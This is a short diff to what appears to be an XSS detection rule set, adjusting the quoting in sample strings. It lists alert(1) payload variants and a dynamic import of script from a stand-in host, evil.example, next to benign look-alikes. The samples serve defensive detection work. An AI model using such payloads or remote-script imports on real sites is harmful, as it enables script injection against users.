@@ -251,9 +251,9 @@ export const xssRules: readonly Rule[] = [
         '(a=alert)(1)',
         'a=alert,a(1)',
         '*/alert(1)/*',
-        "import('//evil.example/x.js')",
+        'import(`//evil.example/x.js`)',
       ],
-      benign: ['items.find(x)', 'a = alert', "import('./page.js')", 'the alert, a (red) one'],
+      benign: ['items.find(x)', 'a = alert', 'import(`./page.js`)', 'the alert, a (red) one'],
     },
   ),
   // What a probe calls, and calls that hide what is called.
